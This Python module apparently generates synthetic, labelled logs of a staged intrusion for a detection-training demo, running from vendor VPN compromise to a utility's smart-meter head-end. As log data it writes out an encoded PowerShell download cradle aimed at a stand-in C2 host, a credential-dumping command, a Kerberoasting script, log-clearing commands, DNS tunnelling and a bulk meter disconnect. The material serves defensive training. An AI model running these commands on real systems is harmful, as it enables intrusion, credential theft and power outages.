"""The labelled intrusion: the AMI vendor's IT is breached and its access to the utility abused.

Each step is defined as a label first, then written into every source that would really
record it, each record tagged with the label id. Sinks turn tags into `line N` evidence as
they write, so labels.json always points at the exact records. Times are fixed April 2026
dates; small per-seed offsets shift minutes so different seeds give different times.
"""

from __future__ import annotations

import base64
import random
from typing import Any

from gridhunt.demo.background import PS, Background, encode_ps, firmware_push
from gridhunt.demo.context import TOKEN_OLD, TOKEN_ROTATE_BY, Change
from gridhunt.demo.labels import LabelBook
from gridhunt.demo.netlog import Net
from gridhunt.demo.sinks import Sink
from gridhunt.demo.timeutil import DAY, MINUTE, US, at
from gridhunt.demo.updates import UpdateRow, render_update
from gridhunt.demo.winevents import WinLog
from gridhunt.demo.world import User, World

SPRAY_IP = "198.51.100.23"  # VPS range (NL in geoip.csv)
ATTACKER_IP = "198.51.100.77"  # cloud range in a country the vendor never logs in from (SG)
C2_IP = "198.51.100.88"
TUNNEL_NS = "198.51.100.99"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
CMD = "C:\\Windows\\System32\\cmd.exe"
B32 = "abcdefghijklmnopqrstuvwxyz234567"
CHROME_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0 Safari/537.36"
)


def wt(label: str, eid: int, **kv: Any) -> tuple[str, dict[str, Any]]:
    return (label, {"EventID": eid, **kv})


class Intrusion:
    def __init__(
        self,
        w: World,
        sinks: dict[str, Sink],
        win: WinLog,
        net: Net,
        bg: Background,
        book: LabelBook,
        cal: dict[str, Change],
        updates: list[UpdateRow],
    ) -> None:
        self.w, self.s, self.win, self.net, self.bg, self.book = w, sinks, win, net, bg, book
        self.cal, self.updates = cal, updates
        self.rng = random.Random(f"{w.seed}:intrusion")
        r = self.rng
        eng = [u for u in w.users if u.dept == "engineering"] or w.users
        self.victim: User = r.choice(eng)
        self.staff = w.vendor_staff[w.seed % len(w.vendor_staff)]
        self.jitter = r.randrange(0, 17)  # minutes: shifts the whole timeline per seed
        tld = r.choice(["cloud", "support", "status", "portal"])
        self.c2 = f"{r.choice(['api', 'cdn', 'sync'])}.{w.vendor_slug}-{tld}.example"
        self.tunnel = f"t.{''.join(r.choice(B32[:26]) for _ in range(7))}.example"
        self.new_admin = User(
            f"adm-{r.choice(['helpdesk', 'support', 'backup', 'ops'])}{r.randrange(2, 9)}",
            "IT Support (temp)",
            f"{w.domain_sid}-{9100 + r.randrange(0, 800)}",
            "it",
            admin=True,
        )
        self.ami_user = f"{w.vendor_slug}_support{r.randrange(1, 9)}"
        self.assigned = f"10.30.8.{200 + r.randrange(0, 40)}"

    def t(self, day: int, hh: int, mm: int, ss: float = 0.0) -> int:
        return at(day, hh, mm, ss) + self.jitter * MINUTE

    def emit(self) -> None:
        self.spray()
        self.vendor_login()
        self.phishing()
        self.beacon()
        self.discovery()
        self.kerberoast()
        self.domain_admin_and_gpo()
        self.lateral_and_lsass()
        self.log_clearing()
        self.dns_tunnel()
        self.exfil()
        self.ot_hop()
        self.ami_abuse()
        self.token_reuse()
        self.tampered_firmware()

    # -- S01 / S02: VPN --------------------------------------------------------------
    def spray(self) -> None:
        w, r = self.w, self.rng
        lab = self.book.define(
            "S01-vpn-spray",
            "Password spraying against the VPN concentrator",
            ["T1110.003"],
            [SPRAY_IP, w.h("vpn01").name],
            "Many accounts, one or two passwords each, from one VPS address at night.",
        )
        names = [u.sam for u in r.sample(w.users, 30)] + [s.vpn_user for s in w.vendor_staff]
        names += ["admin", "vpnuser", "test", "scanner", "helpdesk"]
        t = self.t(3, 1, 10)
        for _ in range(2):
            for n in names:
                t += r.randrange(8, 22) * US
                known = not n.startswith(("admin", "vpnuser", "test", "scanner", "helpdesk"))
                self.net.vpn(
                    t, n, SPRAY_IP, "", "login_failed", "bad password" if known else "unknown user", tag=lab
                )

    def vendor_login(self) -> None:
        st, r = self.staff, self.rng
        lab = self.book.define(
            "S02-vendor-vpn-new-country",
            "Vendor VPN account logs in from a new country after failures from another address",
            ["T1078", "T1133"],
            [st.vpn_user, SPRAY_IP, ATTACKER_IP, self.assigned],
        )
        t = self.t(3, 2, 5)
        for _ in range(4):
            t += r.randrange(20, 70) * US
            self.net.vpn(t, st.vpn_user, SPRAY_IP, "", "login_failed", "bad password", tag=lab)
        # The same account then succeeds from a different address in a different country.
        self.session(self.t(3, 2, 12), 40 * MINUTE, lab)

    def session(self, start: int, dur: int, lab: str) -> str:
        st = self.staff
        sid = f"V{start // DAY % 100:02d}X{self.rng.randrange(10000, 99999)}"
        self.net.vpn(start, st.vpn_user, ATTACKER_IP, self.assigned, "login", "", sid, tag=lab)
        self.net.vpn(
            start + dur,
            st.vpn_user,
            ATTACKER_IP,
            self.assigned,
            "logout",
            "user logout",
            sid,
            self.rng.randrange(10**6, 10**7),
            self.rng.randrange(10**7, 10**8),
            dur / US,
            tag=lab,
        )
        return sid

    # -- S03 / S04: phishing, C2 -----------------------------------------------------
    def phishing(self) -> None:
        w, win, u = self.w, self.win, self.victim
        ws = u.workstation
        assert ws is not None
        lab = self.book.define(
            "S03-phishing-encoded-powershell",
            "Phishing document from the vendor spawns encoded PowerShell",
            ["T1566.001", "T1059.001", "T1204.002"],
            [u.sam, ws.name, self.c2],
        )
        t = self.t(6, 14, 22)
        doc = (
            f"C:\\Users\\{u.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZL0B\\"
            f"{w.vendor}_Firmware_Advisory_Q2.docm"
        )
        out_pid, word_pid, ps_pid = 4 * 1532, 4 * 2210, 4 * 2391
        self.s["sysmon"].add(t, win.s11, ws, u, OUTLOOK, out_pid, doc, tag=wt(lab, 11, TargetFilename=doc))
        self.s["sysmon"].add(
            t + 9 * US,
            win.s1,
            ws,
            u,
            WORD,
            f'"{WORD}" /n "{doc}" /o ""',
            word_pid,
            OUTLOOK,
            f'"{OUTLOOK}"',
            out_pid,
            tag=wt(lab, 1, Image=WORD),
        )
        script = f"$u='http://{self.c2}/api/v2/stage';IEX (New-Object Net.WebClient).DownloadString($u)"
        cmd = f"powershell.exe -nop -w hidden -enc {encode_ps(script)}"
        self.s["sysmon"].add(
            t + 14 * US,
            win.s1,
            ws,
            u,
            PS,
            cmd,
            ps_pid,
            WORD,
            f'"{WORD}" /n "{doc}"',
            word_pid,
            tag=wt(lab, 1, Image=PS, ParentImage=WORD),
        )
        self.s["sec"].add(
            t + 14 * US + 200,
            win.e4688,
            ws,
            u,
            PS,
            cmd,
            ps_pid,
            WORD,
            word_pid,
            False,
            tag=wt(lab, 4688, NewProcessName=PS, ParentProcessName=WORD),
        )
        self.s["ps"].add(
            t + 15 * US, win.p4104, ws, u, script, "", True, ps_pid, tag=wt(lab, 4104, ScriptBlockText=script)
        )
        self.s["sysmon"].add(
            t + 16 * US,
            win.s22,
            ws,
            u,
            PS,
            ps_pid,
            self.c2,
            f"::ffff:{C2_IP};",
            tag=wt(lab, 22, QueryName=self.c2),
        )
        self.net.dns(t + 16 * US, ws.ip, self.c2, (C2_IP,), ttl=60, tag=lab)
        self.s["sysmon"].add(
            t + 17 * US,
            win.s3,
            ws,
            u,
            PS,
            ps_pid,
            "tcp",
            C2_IP,
            80,
            self.c2,
            tag=wt(lab, 3, DestinationIp=C2_IP),
        )
        self.net.http(
            t + 17 * US,
            ws.ip,
            C2_IP,
            self.c2,
            "/api/v2/stage",
            "GET",
            "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996",
            0,
            48_213,
            200,
            "text/plain",
            rule="WEB-OUT",
            tag=lab,
        )
        self.ps_pid = ps_pid

    def beacon(self) -> None:
        u = self.victim
        ws = u.workstation
        assert ws is not None
        r = self.rng
        lab = self.book.define(
            "S04-c2-beacon",
            "Jittered HTTP beacon to a newly seen look-alike vendor domain",
            ["T1071.001", "T1573"],
            [ws.name, ws.ip, self.c2, C2_IP],
        )
        t, end = self.t(6, 14, 25), at(12, 18, 0)
        ua = CHROME_UA
        while t < end:
            self.net.dns(t - 30_000, ws.ip, self.c2, (C2_IP,), ttl=60, tag=lab)
            self.net.http(
                t,
                ws.ip,
                C2_IP,
                self.c2,
                f"/api/v2/poll?id={r.randrange(16**6):06x}",
                "GET",
                ua,
                0,
                r.randrange(40, 90),
                200,
                "application/json",
                dur=r.uniform(0.1, 0.4),
                tag=lab,
            )
            t += int(600 * US * r.uniform(0.82, 1.18))  # 10 min ±18 %: jittered, still a beacon

    # -- S05 / S06: discovery, Kerberoasting -----------------------------------------
    def discovery(self) -> None:
        w, u, win = self.w, self.victim, self.win
        ws = u.workstation
        assert ws is not None
        lab = self.book.define(
            "S05-ad-discovery",
            "Account and group discovery from the phished workstation",
            ["T1087.002", "T1069.002", "T1033"],
            [u.sam, ws.name],
        )
        t = self.t(6, 14, 40)
        cmds = [
            ("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
            ("C:\\Windows\\System32\\net.exe", "net user /domain"),
            ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain'),
            ("C:\\Windows\\System32\\net.exe", 'net group "Enterprise Admins" /domain'),
            ("C:\\Windows\\System32\\nltest.exe", f"nltest /dclist:{w.dns_domain}"),
        ]
        for i, (img, cmd) in enumerate(cmds):
            ts = t + i * 41 * US
            pid = 4 * (3000 + i * 17)
            self.s["sysmon"].add(
                ts,
                win.s1,
                ws,
                u,
                img,
                cmd,
                pid,
                PS,
                "powershell.exe -nop -w hidden",
                self.ps_pid,
                tag=wt(lab, 1, Image=img, CommandLine=cmd),
            )
            self.s["sec"].add(
                ts + 200,
                win.e4688,
                ws,
                u,
                img,
                cmd,
                pid,
                PS,
                self.ps_pid,
                False,
                tag=wt(lab, 4688, NewProcessName=img, CommandLine=cmd),
            )
        script = (
            "Get-ADUser -Filter {ServicePrincipalName -like '*'} -Properties ServicePrincipalName,"
            "PasswordLastSet | Select SamAccountName,ServicePrincipalName,PasswordLastSet"
        )
        self.s["ps"].add(
            t + 5 * MINUTE,
            win.p4104,
            ws,
            u,
            script,
            "",
            False,
            self.ps_pid,
            tag=wt(lab, 4104, ScriptBlockText=script),
        )

    def kerberoast(self) -> None:
        w, u, win = self.w, self.victim, self.win
        ws = u.workstation
        assert ws is not None
        targets = list(w.service_accounts.values())
        lab = self.book.define(
            "S06-kerberoasting",
            "Kerberoasting: RC4 service tickets for every SPN in seconds",
            ["T1558.003"],
            [u.sam, ws.ip] + [s.sam for s in targets],
        )
        t = self.t(6, 15, 5)
        script = (
            "Add-Type -AssemblyName System.IdentityModel; "
            "Get-ADUser -Filter {ServicePrincipalName -like '*'} "
            "-Properties ServicePrincipalName | ForEach-Object { New-Object System.IdentityModel.Tokens."
            "KerberosRequestorSecurityToken -ArgumentList $_.ServicePrincipalName[0] }"
        )
        self.s["ps"].add(
            t, win.p4104, ws, u, script, "", True, self.ps_pid, tag=wt(lab, 4104, ScriptBlockText=script)
        )
        dc = w.h("dc01")
        for i, svc in enumerate(targets):
            self.s["sec"].add(
                t + (i + 1) * 900_000,
                win.e4769,
                dc,
                u,
                svc.sam,
                svc.sid,
                ws.ip,
                "0x17",
                "0x40810010",
                tag=wt(lab, 4769, ServiceName=svc.sam, TicketEncryptionType="0x17"),
            )

    # -- S07 / S08: domain admin, GPO ------------------------------------------------
    def domain_admin_and_gpo(self) -> None:
        w, u, win, na = self.w, self.victim, self.win, self.new_admin
        ws = u.workstation
        assert ws is not None
        dc = w.h("dc01")
        svc = w.service_accounts["svc_sql"]  # cracked offline; it sat in Domain Admins for years
        lab = self.book.define(
            "S07-new-domain-admin",
            "New account created and added to Domain Admins at night",
            ["T1098", "T1136.002", "T1078.002"],
            [svc.sam, na.sam, dc.name, ws.name],
        )
        t = self.t(7, 3, 10)
        sec = self.s["sec"]
        sec.add(t, win.e4648, ws, u, svc, dc.name, PS, dc.ip, tag=wt(lab, 4648, TargetUserName=svc.sam))
        sec.add(
            t + 200_000,
            win.e4624,
            dc,
            svc,
            3,
            ws.ip,
            ws.name.upper(),
            "Kerberos",
            tag=wt(lab, 4624, TargetUserName=svc.sam, LogonType=3),
        )
        sec.add(t + 201_000, win.e4672, dc, svc, tag=wt(lab, 4672, SubjectUserName=svc.sam))
        sec.add(t + 2 * MINUTE, win.e4720, dc, svc, na, tag=wt(lab, 4720, TargetUserName=na.sam))
        sec.add(
            t + 2 * MINUTE + 30 * US,
            win.e_group_add,
            dc,
            4728,
            svc,
            na,
            "Domain Admins",
            f"{w.domain_sid}-512",
            tag=wt(lab, 4728, TargetUserName="Domain Admins", MemberSid=na.sid),
        )
        sec.add(
            t + 2 * MINUTE + 45 * US,
            win.e_group_add,
            dc,
            4756,
            svc,
            na,
            "Enterprise Admins",
            f"{w.domain_sid}-519",
            tag=wt(lab, 4756, TargetUserName="Enterprise Admins", MemberSid=na.sid),
        )
        sec.add(
            t + 9 * MINUTE,
            win.e4624,
            dc,
            na,
            3,
            ws.ip,
            ws.name.upper(),
            "Kerberos",
            tag=wt(lab, 4624, TargetUserName=na.sam),
        )
        sec.add(t + 9 * MINUTE + 1000, win.e4672, dc, na, tag=wt(lab, 4672, SubjectUserName=na.sam))

        lab2 = self.book.define(
            "S08-gpo-change",
            "Default Domain Policy modified outside any change window",
            ["T1484.001"],
            [na.sam, dc.name],
        )
        t2 = self.t(7, 3, 25)
        guid = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
        dc_parts = ",DC=".join(w.dns_domain.split("."))
        dn = f"CN={guid},CN=Policies,CN=System,DC={dc_parts}"
        corr = "D41E7B9A-3C55-4E0F-8A21-6B9C0E4F1D77"
        ext = (
            "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
            "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
        )
        sec.add(
            t2,
            win.e5136,
            dc,
            na,
            dn,
            "groupPolicyContainer",
            "gPCMachineExtensionNames",
            ext,
            True,
            corr,
            tag=wt(
                lab2,
                5136,
                ObjectClass="groupPolicyContainer",
                AttributeLDAPDisplayName="gPCMachineExtensionNames",
            ),
        )
        sec.add(
            t2 + 1000,
            win.e5136,
            dc,
            na,
            dn,
            "groupPolicyContainer",
            "versionNumber",
            "131075",
            True,
            corr,
            tag=wt(lab2, 5136, AttributeLDAPDisplayName="versionNumber"),
        )
        rel = f"{w.dns_domain}\\Policies\\{guid}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"
        sec.add(
            t2 - 20 * US,
            win.e5145,
            dc,
            na,
            ws.ip,
            "\\\\*\\SYSVOL",
            "\\??\\C:\\Windows\\SYSVOL\\sysvol",
            rel,
            tag=wt(lab2, 5145, ShareName="\\\\*\\SYSVOL"),
        )

    # -- S09 / S10 / S11: PsExec, LSASS, log clearing --------------------------------
    def lateral_and_lsass(self) -> None:
        w, u, win, na = self.w, self.victim, self.win, self.new_admin
        ws = u.workstation
        assert ws is not None
        fs, sql = w.h("fs01"), w.h("sql01")
        lab = self.book.define(
            "S09-psexec-lateral",
            "PsExec lateral movement with the new admin account",
            ["T1021.002", "T1569.002", "T1570"],
            [na.sam, ws.name, fs.name, sql.name],
        )
        t = self.t(7, 3, 35)
        self.s["sec"].add(
            t - 2 * US,
            win.e4648,
            ws,
            u,
            na,
            fs.name,
            "C:\\Tools\\SysinternalsSuite\\PsExec.exe",
            fs.ip,
            tag=wt(lab, 4648, TargetUserName=na.sam),
        )
        self.bg.psexec(t, ws, fs, na, "C:\\Windows\\Temp\\dbgsvc.exe", tag=lab)
        self.s["sec"].add(
            t + 15 * MINUTE - 2 * US,
            win.e4648,
            ws,
            u,
            na,
            sql.name,
            "C:\\Tools\\SysinternalsSuite\\PsExec.exe",
            sql.ip,
            tag=wt(lab, 4648, TargetUserName=na.sam),
        )
        self.bg.psexec(t + 15 * MINUTE, ws, sql, na, "whoami & hostname", tag=lab)

        lab2 = self.book.define(
            "S10-lsass-access",
            "Credential dumping: LSASS opened with 0x1010 on the file server",
            ["T1003.001"],
            [fs.name, "C:\\Windows\\Temp\\dbgsvc.exe"],
        )
        t2 = t + 3 * MINUTE
        tool = "C:\\Windows\\Temp\\dbgsvc.exe"
        self.s["sysmon"].add(
            t2 - 20 * US,
            win.s11,
            fs,
            "NT AUTHORITY\\SYSTEM",
            "C:\\Windows\\PSEXESVC.exe",
            4 * 811,
            tool,
            tag=wt(lab2, 11, TargetFilename=tool),
        )
        pid = 4 * 1777
        cmd = f'{tool} "privilege::debug" "sekurlsa::logonpasswords" exit'
        self.s["sysmon"].add(
            t2,
            win.s1,
            fs,
            "NT AUTHORITY\\SYSTEM",
            tool,
            cmd,
            pid,
            CMD,
            f'"cmd" /c "{tool}"',
            4 * 1703,
            "System",
            tag=wt(lab2, 1, Image=tool),
        )
        self.s["sec"].add(
            t2 + 200,
            win.e4688,
            fs,
            self.bg.machine(fs),
            tool,
            cmd,
            pid,
            CMD,
            4 * 1703,
            True,
            tag=wt(lab2, 4688, NewProcessName=tool),
        )
        self.s["sysmon"].add(
            t2 + 2 * US,
            win.s10,
            fs,
            tool,
            pid,
            "C:\\Windows\\system32\\lsass.exe",
            win.lsass_pid(fs),
            "0x1010",
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A1B2C3D4)",
            "NT AUTHORITY\\SYSTEM",
            tag=wt(lab2, 10, GrantedAccess="0x1010", SourceImage=tool),
        )

    def log_clearing(self) -> None:
        w, u, win, na = self.w, self.victim, self.win, self.new_admin
        ws = u.workstation
        assert ws is not None
        fs = w.h("fs01")
        lab = self.book.define(
            "S11-log-clearing",
            "Security and System event logs cleared after credential theft",
            ["T1070.001"],
            [fs.name, ws.name, na.sam, u.sam],
        )
        t = self.t(7, 4, 15)
        wev = "C:\\Windows\\System32\\wevtutil.exe"
        for i, ch in enumerate(["Security", "System"]):
            self.s["sysmon"].add(
                t + i * 3 * US,
                win.s1,
                fs,
                "NT AUTHORITY\\SYSTEM",
                wev,
                f"wevtutil cl {ch}",
                4 * (2100 + i),
                CMD,
                '"cmd" /c "wevtutil cl Security & wevtutil cl System"',
                4 * 2090,
                "System",
                tag=wt(lab, 1, Image=wev, CommandLine=f"wevtutil cl {ch}"),
            )
        self.s["sec"].add(t + 1 * US, win.e1102, fs, na, tag=wt(lab, 1102, SubjectUserName=na.sam))
        self.s["sys"].add(t + 4 * US, win.e104, fs, na, tag=wt(lab, 104, SubjectUserName=na.sam))
        t2 = self.t(12, 17, 55)
        self.s["sysmon"].add(
            t2,
            win.s1,
            ws,
            u,
            wev,
            "wevtutil cl Security",
            4 * 2600,
            PS,
            "powershell.exe -nop -w hidden",
            self.ps_pid,
            "High",
            tag=wt(lab, 1, Image=wev),
        )
        self.s["sec"].add(t2 + US, win.e1102, ws, u, tag=wt(lab, 1102, SubjectUserName=u.sam))

    # -- S12 / S13: DNS tunnel, exfiltration ------------------------------------------
    def dns_tunnel(self) -> None:
        u, r, win = self.victim, self.rng, self.win
        ws = u.workstation
        assert ws is not None
        lab = self.book.define(
            "S12-dns-tunnel",
            "DNS tunnelling: long random TXT queries to one new domain",
            ["T1071.004", "T1048.003"],
            [ws.name, ws.ip, self.tunnel],
        )
        t = self.t(9, 1, 0)
        for i in range(480):
            chunk = "".join(r.choice(B32) for _ in range(r.randrange(48, 60)))
            q = f"{chunk[:30]}.{chunk[30:]}.{i:04x}.{self.tunnel}"
            reply = base64.b64encode(r.randbytes(r.randrange(20, 60))).decode()
            self.net.dns(t, ws.ip, q, (f"TXT {len(reply)} {reply}",), "TXT", ttl=0, tag=lab)
            if i % 8 == 0:
                self.s["sysmon"].add(
                    t,
                    win.s22,
                    ws,
                    u,
                    PS,
                    self.ps_pid,
                    q,
                    f"type:  16 {reply[:16]};",
                    tag=wt(lab, 22, QueryName=q),
                )
            t += r.randrange(3, 9) * US

    def exfil(self) -> None:
        u, r = self.victim, self.rng
        ws = u.workstation
        assert ws is not None
        lab = self.book.define(
            "S13-exfil-over-c2",
            "Exfiltration over the C2 channel: large POSTs at night",
            ["T1041"],
            [ws.name, ws.ip, self.c2, C2_IP],
        )
        t = self.t(10, 1, 0)
        for i in range(30):
            size = r.randrange(5_000_000, 9_000_000)
            self.net.http(
                t,
                ws.ip,
                C2_IP,
                self.c2,
                f"/api/v2/upload?part={i}",
                "POST",
                CHROME_UA,
                size,
                2,
                200,
                "application/json",
                dur=r.uniform(8, 25),
                tag=lab,
            )
            t += r.randrange(50, 110) * US

    # -- S14: jump host into OT over a forbidden conduit ------------------------------
    def ot_hop(self) -> None:
        w, st, win = self.w, self.staff, self.win
        jump, dms, scada = w.h("jump01"), w.h("dms01"), w.h("scada01")
        lab = self.book.define(
            "S14-jump-host-to-ot",
            "Vendor jump host used to reach the OT control zone "
            "over a conduit the zone policy does not allow",
            ["T1021.001", "T1133"],
            [st.ad_user.sam, jump.name, dms.name, scada.name],
        )
        t = self.t(14, 2, 30)
        self.session(t - 2 * MINUTE, 90 * MINUTE, "S02-vendor-vpn-new-country")
        self.net.flow(t, self.assigned, jump.ip, 3389, "tcp", "rdp", 4800.0, 3_000_000, 50_000_000, tag=lab)
        self.s["sec"].add(
            t + 2 * US,
            win.e4624,
            jump,
            st.ad_user,
            10,
            self.assigned,
            "DESKTOP-7H2KQ9",
            tag=wt(lab, 4624, LogonType=10, IpAddress=self.assigned),
        )
        mstsc = "C:\\Windows\\System32\\mstsc.exe"
        self.s["sysmon"].add(
            t + 3 * MINUTE,
            win.s1,
            jump,
            st.ad_user,
            mstsc,
            f'"{mstsc}" /v:{dms.ip}',
            4 * 3121,
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            4 * 1200,
            tag=wt(lab, 1, Image=mstsc),
        )
        self.net.flow(
            t + 3 * MINUTE + 2 * US,
            jump.ip,
            dms.ip,
            3389,
            "tcp",
            "rdp",
            2400.0,
            2_000_000,
            30_000_000,
            fw="fw-ot",
            rule="TEMP-VENDOR-SUPPORT",
            tag=lab,
        )
        self.s["sec"].add(
            t + 3 * MINUTE + 5 * US,
            win.e4624,
            dms,
            st.ad_user,
            10,
            jump.ip,
            jump.name.upper(),
            tag=wt(lab, 4624, LogonType=10, IpAddress=jump.ip),
        )
        self.net.flow(
            t + 45 * MINUTE,
            jump.ip,
            scada.ip,
            445,
            "tcp",
            "-",
            0.0,
            0,
            0,
            fw="fw-ot",
            rule="DEFAULT-DENY",
            action="deny",
            tag=lab,
        )

    # -- S15 / S16 / S17: AMI head-end abuse ------------------------------------------
    def ami_abuse(self) -> None:
        w, st, r = self.w, self.staff, self.rng
        jump, he = w.h("jump01"), w.h("headend01")
        t = self.t(18, 2, 5)
        self.session(t - 4 * MINUTE, 70 * MINUTE, "S02-vendor-vpn-new-country")
        self.net.flow(
            t - 3 * MINUTE, self.assigned, jump.ip, 3389, "tcp", "rdp", 3600.0, 2_000_000, 40_000_000
        )
        self.s["sec"].add(
            t - 3 * MINUTE + 2 * US, self.win.e4624, jump, st.ad_user, 10, self.assigned, "DESKTOP-7H2KQ9"
        )
        self.net.flow(
            t - MINUTE,
            jump.ip,
            he.ip,
            443,
            "tcp",
            "ssl",
            3000.0,
            400_000,
            1_500_000,
            fw="fw-ot",
            rule="VENDOR-AMI-HTTPS",
        )
        lab = self.book.define(
            "S15-ami-new-admin",
            "New head-end administrator created by a vendor account at night",
            ["T1136", "T1098", "T0859"],
            [st.vpn_user, self.ami_user, he.name],
        )
        self.net.ami(
            t,
            "headend",
            "headend",
            st.vpn_user,
            jump.ip,
            "login",
            "user",
            st.vpn_user,
            1,
            {"method": "password+otp"},
            tag=lab,
        )
        self.net.ami(
            t + 2 * MINUTE,
            "headend",
            "headend",
            st.vpn_user,
            jump.ip,
            "create_user",
            "user",
            self.ami_user,
            1,
            {"display_name": "Vendor support"},
            tag=lab,
        )
        self.net.ami(
            t + 2 * MINUTE + 20 * US,
            "headend",
            "headend",
            st.vpn_user,
            jump.ip,
            "grant_role",
            "user",
            self.ami_user,
            1,
            {"role": "headend-admin"},
            tag=lab,
        )
        self.net.ami(
            t + 5 * MINUTE,
            "headend",
            "headend",
            self.ami_user,
            jump.ip,
            "login",
            "user",
            self.ami_user,
            1,
            {"method": "password"},
            tag=lab,
        )
        lab2 = self.book.define(
            "S16-ami-config-change",
            "Head-end safety settings changed without a change ticket",
            ["T0836", "T1562.001"],
            [self.ami_user, he.name],
        )
        for i, (key, old, new) in enumerate(
            [
                ("disconnect.require_confirmation", "true", "false"),
                ("disconnect.max_batch_size", "50", "10000"),
                ("audit.syslog_forwarding", "true", "false"),
            ]
        ):
            self.net.ami(
                t + (9 + i) * MINUTE,
                "headend",
                "headend",
                self.ami_user,
                jump.ip,
                "config_change",
                "config",
                key,
                1,
                {"old": old, "new": new},
                tag=lab2,
            )
        lab3 = self.book.define(
            "S17-ami-bulk-disconnect",
            "Off-hours bulk remote disconnect of meters, no ticket",
            ["T0831", "T0813"],
            [self.ami_user, he.name],
        )
        feeders = w.feeders[10:13]
        idx = [i for i in range(len(w.meters)) if i % len(w.feeders) in (10, 11, 12)][:1200]
        t3 = t + 26 * MINUTE
        self.net.ami(
            t3,
            "headend",
            "headend",
            self.ami_user,
            jump.ip,
            "bulk_job",
            "feeder",
            ",".join(feeders),
            len(idx),
            {"job": "disconnect", "priority": "immediate"},
            tag=lab3,
        )
        for k, i in enumerate(idx):
            self.net.ami(
                t3 + 20 * US + k * 400_000 + r.randrange(0, 300_000),
                "headend",
                "headend",
                self.ami_user,
                he.ip,
                "EndDeviceControl:disconnect",
                "meter",
                w.meters[i],
                1,
                {"job": "bulk", "feeder": w.feeders[i % len(w.feeders)]},
                tag=lab3,
            )
        self.net.ami(
            t3 + 16 * MINUTE,
            "headend",
            "headend",
            self.ami_user,
            jump.ip,
            "logout",
            "user",
            self.ami_user,
            1,
            {},
        )

    def token_reuse(self) -> None:
        w, r = self.w, self.rng
        rot = at(TOKEN_ROTATE_BY[0], TOKEN_ROTATE_BY[1])
        lab = self.book.define(
            "S18-stale-api-token",
            "Vendor API token used after its rotate-by date",
            ["T1550.001", "T1528"],
            [TOKEN_OLD, ATTACKER_IP],
        )
        assert w.vendor_svc is not None
        for day in range(11, 28):
            for _ in range(1 + (day % 3 == 0)):
                ts = at(day, r.randrange(0, 24), r.randrange(0, 60), r.randrange(0, 60))
                assert ts > rot
                self.net.ami(
                    ts,
                    "headend",
                    "headend",
                    w.vendor_svc.sam,
                    ATTACKER_IP,
                    "bulk_job",
                    "meter",
                    "ALL",
                    len(w.meters),
                    {
                        "job": "export_reads",
                        "auth": "api_token",
                        "token_id": TOKEN_OLD,
                        "via": w.h("proxy01").name,
                    },
                    tag=lab,
                )

    # -- S19: tampered firmware --------------------------------------------------------
    def tampered_firmware(self) -> None:
        w = self.w
        ch = self.cal["collector_fw_421"]
        lab = self.book.define(
            "S19-tampered-firmware",
            "Collector firmware applied whose hash and signature do not match the vendor manifest",
            ["T1195.002", "T0839"],
            [f"{w.vendor_slug}-collector-fw-4.2.1.bin", w.h("headend01").name],
        )
        he = w.h("headend01")
        firmware_push(
            self.net,
            w,
            ch,
            he.ip,
            20.0,
            3000,
            40_000,
            "collector",
            "ALL",
            len(w.collectors),
            {"change": "collector_fw_421", "image": f"{w.vendor_slug}-collector-fw-4.2.1.bin"},
            tag=lab,
        )
        for row in self.updates:
            tag = (lab, {"target": row.target, "version": row.version}) if row.tampered else None
            self.s["updates"].add(row.ts, render_update, row, tag=tag)
